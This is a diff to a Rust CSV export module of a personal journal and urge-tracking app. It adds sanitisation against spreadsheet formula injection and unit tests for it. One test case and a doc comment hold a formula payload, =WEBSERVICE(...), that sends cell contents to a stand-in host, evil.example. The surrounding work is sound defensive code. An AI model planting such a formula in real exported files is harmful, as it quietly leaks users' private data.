@@ -4,10 +4,33 @@
 
 use super::report::Report;
 use crate::model::{Entry, EntryBody};
+use crate::sanitize::{self, Mode};
 use std::io::Write;
 
 /// The tables, by file name.
 pub const TABLES: [&str; 4] = ["urges.csv", "lapses.csv", "entries.csv", "summary.csv"];
+
+/// A cell of a person's text (or an imported one), safe for a spreadsheet: every
+/// control, C1 and bidirectional character shown as a visible escape (line breaks
+/// and tabs kept in [`Mode::Body`] text), and, by the OWASP rule, a `'` before a
+/// cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return, so that no
+/// spreadsheet takes it for a formula (`=WEBSERVICE(...)` could send data out).
+/// Only cells of people's text get the prefix: the numbers confide writes itself
+/// (intensity, minutes, mood, the summary figures) stay numbers.
+pub fn text_cell(s: &str, mode: Mode) -> String {
+    let s = sanitize::sanitize(s, mode);
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.into_owned()
+    }
+}
+
+/// Names (tags, triggers, coping, feelings) as one cell: each sanitised as a field,
+/// joined with `; `, guarded like [`text_cell`].
+fn names_cell(names: &[String]) -> String {
+    text_cell(&sanitize::fields(names, "; "), Mode::Field)
+}
 
 fn late(e: &Entry) -> &'static str {
     if Report::late(e) { "yes" } else { "no" }
@@ -33,7 +56,7 @@ pub fn write_table<W: Write>(out: W, r: &Report, table: &str) -> csv::Result<()>
             for e in &r.entries {
                 if let EntryBody::Urge(u) = &e.body {
                     let note = if r.text_allowed(e) {
-                        u.note.clone().unwrap_or_default()
+                        text_cell(u.note.as_deref().unwrap_or_default(), Mode::Body)
                     } else {
                         String::new()
                     };
@@ -42,9 +65,9 @@ pub fn write_table<W: Write>(out: W, r: &Report, table: &str) -> csv::Result<()>
                         e.occurred_at.to_rfc3339(),
                         late(e).into(),
                         u.intensity.to_string(),
-                        u.triggers.join("; "),
+                        names_cell(&u.triggers),
                         u.halt.names().join("; "),
-                        u.coping.join("; "),
+                        names_cell(&u.coping),
                         u.outcome
                             .map(|o| o.as_str().to_string())
                             .unwrap_or_default(),
@@ -102,9 +125,9 @@ pub fn write_table<W: Write>(out: W, r: &Report, table: &str) -> csv::Result<()>
                     ep.urge()
                         .map(|(_, u)| u.intensity.to_string())
                         .unwrap_or_default(),
-                    ep.triggers().join("; "),
+                    names_cell(&ep.triggers()),
                 ];
-                row.extend(texts.iter().map(|t| t.join("\n")));
+                row.extend(texts.iter().map(|t| text_cell(&t.join("\n"), Mode::Body)));
                 w.write_record(row)?;
             }
         }
@@ -125,19 +148,19 @@ pub fn write_table<W: Write>(out: W, r: &Report, table: &str) -> csv::Result<()>
             ])?;
             for e in &r.entries {
                 let (mood, emotions) = match &e.body {
-                    EntryBody::Journal(j) => (j.mood, j.emotions.join("; ")),
-                    EntryBody::Checkin(c) => (c.mood, c.emotions.join("; ")),
+                    EntryBody::Journal(j) => (j.mood, names_cell(&j.emotions)),
+                    EntryBody::Checkin(c) => (c.mood, names_cell(&c.emotions)),
                     _ => (None, String::new()),
                 };
                 let text = if r.text_allowed(e) {
-                    e.body.texts().join("\n\n")
+                    text_cell(&e.body.texts().join("\n\n"), Mode::Body)
                 } else {
                     String::new()
                 };
                 let summary = match &e.body {
                     EntryBody::Journal(_) | EntryBody::Reflection(_) => String::new(),
-                    _ if !r.text_allowed(e) => structured_summary(e),
-                    b => b.summary(),
+                    _ if !r.text_allowed(e) => text_cell(&structured_summary(e), Mode::Field),
+                    b => text_cell(&b.summary(), Mode::Field),
                 };
                 w.write_record([
                     e.id.to_hex(),
@@ -145,7 +168,7 @@ pub fn write_table<W: Write>(out: W, r: &Report, table: &str) -> csv::Result<()>
                     e.occurred_at.to_rfc3339(),
                     e.recorded_at.to_rfc3339(),
                     late(e).into(),
-                    e.tags.join("; "),
+                    names_cell(&e.tags),
                     e.private.to_string(),
                     e.intimacy
                         .map(|t| t.as_str().to_string())
@@ -246,5 +269,36 @@ fn structured_summary(e: &Entry) -> String {
             .map(|m| format!("mood {m}"))
             .unwrap_or_else(|| "check-in".into()),
         EntryBody::Journal(_) | EntryBody::Reflection(_) => String::new(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{Mode, text_cell};
+
+    #[test]
+    fn formula_cells_get_a_quote_and_controls_show_as_escapes() {
+        for (raw, cell) in [
+            (
+                "=WEBSERVICE(\"http://evil.example/?\"&A1)",
+                "'=WEBSERVICE(\"http://evil.example/?\"&A1)",
+            ),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("plain = fine", "plain = fine"),
+            (
+                "a\u{1b}[2Jb\u{9b}c\u{202e}d\u{7f}",
+                "a\\e[2Jb\\u{9b}c\\u{202e}d\\u{7f}",
+            ),
+            ("one\ntwo", "one\ntwo"),
+        ] {
+            assert_eq!(text_cell(raw, Mode::Body), cell, "{raw:?}");
+        }
+        // A carriage return is escaped first, in either mode; a field's tab too.
+        assert_eq!(text_cell("\r=1", Mode::Body), "\\r=1");
+        assert_eq!(text_cell("\t=1", Mode::Field), "\\t=1");
+        assert_eq!(text_cell("one\ntwo", Mode::Field), "one\\ntwo");
     }
 }
